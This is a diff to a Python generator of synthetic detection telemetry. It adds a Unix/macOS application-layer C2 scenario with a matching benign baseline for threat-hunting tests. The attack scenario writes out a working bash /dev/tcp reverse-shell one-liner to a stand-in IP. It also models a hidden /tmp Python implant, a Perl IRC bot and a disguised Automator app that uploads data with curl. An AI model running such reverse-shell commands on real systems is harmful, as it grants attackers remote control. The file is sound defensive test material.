@@ -568,14 +568,18 @@ def fp_esxi_backup_guest_ops(rec, t0):
                      vpxa_user="CORP\\svc-veeam")
 
 def _open_socket(rec, host, when, pid, path, family, protocol, remote=("0.0.0.0", 0),
-                 local=("0.0.0.0", 0), state="", cmdline=None, uid=501):
-    """A process_open_sockets row (the query joins processes for name, path and cmdline)."""
-    rec.osquery(host, when, "pack_c2hunt_process_open_sockets", collections.OrderedDict([
+                 local=("0.0.0.0", 0), state="", cmdline=None, uid=501, parent=None):
+    """A process_open_sockets row (the query joins processes for name, path and cmdline, and
+    the parent process for its pid and path when ``parent`` = (pid, path) is given)."""
+    columns = collections.OrderedDict([
         ("pid", pid), ("name", path.rsplit("/", 1)[-1]), ("path", path),
         ("cmdline", cmdline or path), ("uid", uid), ("fd", 3 + pid % 7),
         ("socket", 1000000 + pid), ("family", family), ("protocol", protocol),
         ("local_address", local[0]), ("local_port", local[1]),
-        ("remote_address", remote[0]), ("remote_port", remote[1]), ("state", state)]))
+        ("remote_address", remote[0]), ("remote_port", remote[1]), ("state", state)])
+    if parent is not None:
+        columns["parent"], columns["parent_path"] = parent
+    rec.osquery(host, when, "pack_c2hunt_process_open_sockets", columns)
 
 
 def _socket_event(rec, host, when, pid, path, remote, action="connect", family=2,
@@ -803,6 +807,77 @@ def benign_tunnels_and_admin_forwards(rec, t0):
     rec.zeek_dns(t0 + 30, ws.ip, "10.20.0.53", "ngrok.com", "A", answers=("54.161.241.46",))
     rec.zeek_dns(t0 + 31, ws.ip, "10.20.0.53", "dashboard.ngrok.com.cdn.cloudflare.net", "A",
                  answers=("104.18.1.1",))
+
+
+@scenario
+def x8_unix_scripted_app_c2(rec, t0):
+    """Application-layer C2 scripted with the tools every Unix host has (AN1226, AN1227): a
+    Python implant in /tmp polling its HTTPS listener on 8443 every minute (Sysmon for Linux
+    through syslog); a bash /dev/tcp reverse shell and a Perl IRC bot run from /var/tmp
+    (auditd); on a Mac, an Automator application whose shell step runs curl against its
+    server every 30 s (osquery socket_events, and process_open_sockets with the parent)."""
+    lnx = Host("lnx31.corp.example", "10.20.2.51", "linux")
+    implant = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
+                                       "python3 /tmp/.X11-cache/update.py", "www-data")
+    for beat in range(20):
+        rec.linux_sysmon_connection(lnx, implant, t0 + 2 + 60.0 * beat + rec.rng.uniform(-6, 6),
+                                    "tcp", "198.51.100.71", 8443)
+    shell_host = Host("lnx32.corp.example", "10.20.2.52", "linux")
+    shell = rec.linux_exec(shell_host, t0 + 30, "/usr/bin/bash",
+                           ["bash", "-c", "exec 5<>/dev/tcp/203.0.113.90/443; cat <&5 | bash >&5"],
+                           uid=33, auid=4294967295)
+    rec.linux_connect(shell_host, t0 + 30.01, shell, "203.0.113.90", 443)
+    bot = rec.linux_exec(shell_host, t0 + 90, "/usr/bin/perl", ["perl", "/var/tmp/.ircd/bot.pl"],
+                         uid=33, auid=4294967295)
+    rec.linux_connect(shell_host, t0 + 90.2, bot, "198.51.100.73", 6667)
+    mac = Host("mac33.corp.example", "10.20.6.33", "macos")
+    stub = ("/Users/ana/Downloads/Invoice Viewer.app/Contents/MacOS/Automator Application Stub")
+    for beat in range(12):
+        when = t0 + 40 + 30.0 * beat + rec.rng.uniform(-2, 2)
+        pid = 8800 + 3 * beat
+        _socket_event(rec, mac, when, pid, "/usr/bin/curl", ("198.51.100.72", 443))
+        if beat == 0:
+            _open_socket(rec, mac, when + 0.2, pid, "/usr/bin/curl", 2, 6,
+                         remote=("198.51.100.72", 443), local=("10.20.6.33", 52011),
+                         state="ESTABLISHED", parent=(8790, stub),
+                         cmdline="curl -s -X POST --data-binary @- https://198.51.100.72/api/v2/sync")
+
+
+@scenario
+def benign_unix_scripted_tools(rec, t0):
+    """The quiet counterpart of x8: the same tools doing everyday work. pip and curl fetching
+    from outside servers on 443 (a few irregular connections), a Python monitoring agent
+    reporting every 15 s to the internal collector on 8443, netcat checking an internal port
+    (Sysmon for Linux, auditd); on a Mac, curl from Terminal, Homebrew fetching bottles and
+    mDNSResponder on 5353 multicast (osquery)."""
+    lnx = Host("lnx41.corp.example", "10.20.2.61", "linux")
+    pip = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
+                                   "python3 -m pip install --upgrade requests", "dev")
+    for k, delay in enumerate((1.0, 1.4, 2.9, 3.1, 7.5)):
+        rec.linux_sysmon_connection(lnx, pip, t0 + delay, "tcp", "151.101.0.223", 443)
+    curl = rec.linux_sysmon_process(lnx, t0 + 60, "/usr/bin/curl",
+                                    "curl -fsSL https://github.com/cli/cli/releases/latest", "dev")
+    rec.linux_sysmon_connection(lnx, curl, t0 + 60.3, "tcp", "140.82.112.3", 443)
+    agent = rec.linux_sysmon_process(lnx, t0 + 5, "/usr/bin/python3.11",
+                                     "python3 /opt/monitoring/agent.py --collector 10.20.0.40:8443",
+                                     "monitor")
+    for beat in range(60):
+        rec.linux_sysmon_connection(lnx, agent, t0 + 6 + 15.0 * beat, "tcp", "10.20.0.40", 8443)
+    admin = Host("lnx42.corp.example", "10.20.2.62", "linux")
+    nc = rec.linux_exec(admin, t0 + 20, "/usr/bin/nc.openbsd", ["nc", "-zv", "10.20.0.20", "445"])
+    rec.linux_connect(admin, t0 + 20.1, nc, "10.20.0.20", 445)
+    wget = rec.linux_exec(admin, t0 + 40, "/usr/bin/wget",
+                          ["wget", "https://downloads.example.org/tool-1.2.tar.gz"])
+    rec.linux_connect(admin, t0 + 40.3, wget, "93.184.216.34", 443)
+    mac = Host("mac43.corp.example", "10.20.6.43", "macos")
+    _socket_event(rec, mac, t0 + 10, 9101, "/usr/bin/curl", ("140.82.112.3", 443))
+    _open_socket(rec, mac, t0 + 10.2, 9101, "/usr/bin/curl", 2, 6, remote=("140.82.112.3", 443),
+                 local=("10.20.6.43", 50433), state="ESTABLISHED", parent=(9002, "/bin/zsh"),
+                 cmdline="curl -O https://github.com/jqlang/jq/releases/download/jq-1.7/jq-macos-arm64")
+    for k, delay in enumerate((100.0, 100.4, 101.9, 130.2)):
+        _socket_event(rec, mac, t0 + delay, 9150 + k, "/usr/bin/curl", ("140.82.121.34", 443))
+    _open_socket(rec, mac, t0 + 200, 377, "/usr/sbin/mDNSResponder", 2, 17,
+                 local=("10.20.6.43", 5353), remote=("224.0.0.251", 5353), uid=65)
 
 
 def build(name, seed=DEFAULT_SEED):
